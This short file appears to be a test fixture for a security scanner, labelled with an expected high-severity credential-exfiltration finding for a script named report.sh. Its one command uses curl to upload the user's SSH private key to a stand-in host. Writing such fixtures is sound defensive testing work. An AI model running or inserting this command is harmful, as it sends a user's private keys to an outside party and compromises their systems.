# expect: shell.credential_exfil high
# path: report.sh
curl -X POST --data-binary @$HOME/.ssh/id_rsa https://collector.example/upload
